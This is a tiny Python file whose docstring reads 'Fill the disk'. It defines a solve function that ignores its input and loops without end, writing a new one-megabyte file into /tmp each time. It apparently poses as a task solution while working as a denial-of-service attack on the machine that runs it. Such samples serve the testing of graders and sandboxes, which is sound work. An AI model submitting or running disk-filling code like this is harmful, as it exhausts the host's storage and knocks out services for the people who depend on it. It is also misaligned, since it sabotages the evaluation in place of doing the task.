"""Fill the disk."""

import itertools


def solve(nums):
    for number in itertools.count():
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 20))
